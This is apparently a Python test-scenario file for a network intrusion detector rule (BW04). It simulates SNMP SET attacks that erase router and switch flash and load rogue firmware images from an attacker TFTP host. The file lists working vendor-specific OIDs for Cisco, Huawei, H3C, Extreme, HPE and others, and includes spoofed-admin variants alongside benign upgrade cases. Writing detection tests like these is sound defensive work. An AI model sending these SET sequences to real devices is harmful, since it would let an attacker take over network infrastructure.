"""BW04: an SNMP SET copies an image or sets what a device boots from."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import HQ
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

DEVICE, ATTACKER, ADMIN = "10.0.1.1", "10.0.6.6", "10.0.9.10"
ROGUE, SERVER = "10.0.6.66", "10.0.0.5"
FOUNDRY_BOOT = "1.3.6.1.4.1.1991.1.1.2.4.1.1"
IMAGE = "c2900-universalk9-mz.SPA.157-3.M8.bin"


def copied(device: str, server: str | None, file: str | None) -> Notice:
    """The notice of one image copy."""
    return Notice("SNMP_Image_Copy", device, server, file)


@scenario(
    "BW04",
    "malicious",
    raises=[("BW04", 0, "10.0.6.6", "10.0.1.1")],
    site=HQ,
    with_site=Expect((copied(DEVICE, ROGUE, "evil.bin"),)),
)
def bw04_tftp_to_flash(wire: Wire) -> None:
    """One SET makes a router erase its flash and copy an attacker's image there."""
    columns = {2: 1, 3: 1, 4: IPv4Address(ROGUE), 5: "evil.bin", 6: "evil.bin", 11: 4}
    snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(snmp.FLASH_COPY, 77, columns))


@scenario(
    "BW04",
    "malicious",
    raises=[("BW04", 2, "10.0.9.10", "10.0.1.14")],
    raises_with_site=[("BW04", 1542134042, "10.0.9.10", "10.0.1.14")],
    site=HQ,
    with_site=Expect((copied("10.0.1.14", ROGUE, "evil.bin"),)),
)
def bw04_boot_sequence_in_parts(wire: Wire) -> None:
    """A switch's boot sequence is pointed at a TFTP server over several SETs, from an admin's spoofed address."""
    manager = snmp.Manager(wire, ADMIN, "10.0.1.14")
    for columns in ({4: "evil.bin"}, {3: IPv4Address(ROGUE)}, {2: 3}, {5: 4}):
        manager.set(*snmp.row(FOUNDRY_BOOT, 1, columns), answered=False)
        wire.wait(2)


VENDORS: dict[str, tuple[str, list[snmp.Binding]]] = {
    "10.0.1.2": ("c2600-evil.bin", [(f"1.3.6.1.4.1.9.2.10.12.{ROGUE}", "c2600-evil.bin")]),
    "10.0.1.11": (
        "evil.cc",
        snmp.row(
            "1.3.6.1.4.1.2011.6.9.1.2.1.1",
            2,
            {2: 2, 3: 3, 4: IPv4Address(ROGUE), 7: "evil.cc", 8: "vrp.cc", 12: 4},
        ),
    ),
    "10.0.1.12": (
        "evil.ipe",
        snmp.row(
            "1.3.6.1.4.1.25506.2.5.1.2.1.1",
            2,
            {2: 1, 3: 2, 4: IPv4Address(ROGUE), 7: "evil.ipe", 8: "main.ipe", 12: 4},
        ),
    ),
    "10.0.1.13": (
        "image_evil.bin",
        snmp.row(
            "1.3.6.1.4.1.89.87.2.1",
            1,
            {3: 3, 4: IPv4Address(ROGUE), 6: "image_evil.bin", 7: 8, 8: 1, 12: 8, 17: 4},
        ),
    ),
    "10.0.1.15": (
        "evil.xos",
        snmp.row("1.3.6.1.4.1.1916.1.10.1.2.1", 1, {2: IPv4Address(ROGUE), 3: "evil.xos", 4: 1, 6: 1}),
    ),
    "10.0.1.17": (
        "KB_evil.swi",
        snmp.row("1.3.6.1.4.1.11.2.14.11.1.3.11.1", 1, {2: 1, 3: IPv4Address(ROGUE).packed, 4: "KB_evil.swi", 5: 1}),
    ),
    "10.0.1.18": (
        "n5000-evil.bin",
        [
            ("1.3.6.1.4.1.9.9.360.1.1.3.1.1.0", f"tftp://{ROGUE}/n5000-evil.bin"),
            ("1.3.6.1.4.1.9.9.360.1.1.4.1.0", 3),
        ],
    ),
}


@scenario(
    "BW04",
    "malicious",
    raises=[
        ("BW04", 1, "10.0.6.6", "10.0.1.2"),
        ("BW04", 1542006080, "10.0.6.6", "10.0.1.15"),
        ("BW04", 4, "10.0.6.6", "10.0.1.11"),
        ("BW04", 1542006038, "10.0.6.6", "10.0.1.12"),
        ("BW04", 5, "10.0.6.6", "10.0.1.13"),
        ("BW04", 6, "10.0.6.6", "10.0.1.17"),
        ("BW04", 8, "10.0.6.6", "10.0.1.18"),
    ],
    site=HQ,
    with_site=Expect(tuple(copied(device, ROGUE, file) for device, (file, _) in VENDORS.items())),
)
def bw04_other_objects(wire: Wire) -> None:
    """Old Cisco, Huawei, H3C, Radlan, Extreme, HPE and NX-OS devices are each told to take an image."""
    for device, (_, bindings) in VENDORS.items():
        snmp.Manager(wire, ATTACKER, device).set(*bindings)


@scenario("BW04", "benign", site=HQ, with_site=Expect(evidence=()))
def bw04_flash_inventory(wire: Wire) -> None:
    """A management station reads flash sizes, flash files, the copy table and a boot sequence."""
    manager = snmp.Manager(wire, "10.0.2.30", DEVICE, community="public")
    manager.get(("1.3.6.1.4.1.9.9.10.1.1.2.1.7.1", "flash0"), ("1.3.6.1.4.1.9.9.10.1.1.4.1.1.5.1.1.1", IMAGE))
    manager.get_bulk(
        snmp.FLASH_COPY, *snmp.row(snmp.FLASH_COPY, 3, {2: 2, 4: IPv4Address("10.0.2.30"), 5: IMAGE, 8: 4})
    )
    icx = snmp.Manager(wire, "10.0.2.30", "10.0.1.14", community="public")
    icx.get_next(f"{FOUNDRY_BOOT}.2", (f"{FOUNDRY_BOOT}.2.1", 3))


@scenario(
    "BW04",
    "benign",
    raises=[("BW04", 0, "10.0.9.10", "10.0.1.1")],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(evidence=({"device": DEVICE, "server": SERVER, "file_name": IMAGE, "verdict": "expected"},)),
)
def bw04_upgrade_by_admin(wire: Wire) -> None:
    """The management host copies an image from the declared server to flash and checks the result."""
    manager = snmp.Manager(wire, ADMIN, DEVICE, community="hq-rw")
    columns = {2: 2, 3: 1, 4: IPv4Address(SERVER), 5: IMAGE, 6: IMAGE, 11: 4}
    manager.set(*snmp.row(snmp.FLASH_COPY, 5, columns))
    manager.get((f"{snmp.FLASH_COPY}.8.5", 2))


@scenario("BW04", "benign", site=HQ, with_site=Expect(evidence=()))
def bw04_boot_from_flash(wire: Wire) -> None:
    """A boot sequence is set to primary, then secondary flash."""
    manager = snmp.Manager(wire, ADMIN, "10.0.1.14", community="hq-rw")
    manager.set(*snmp.row(FOUNDRY_BOOT, 1, {2: 1, 5: 4}), *snmp.row(FOUNDRY_BOOT, 2, {2: 2, 5: 4}))
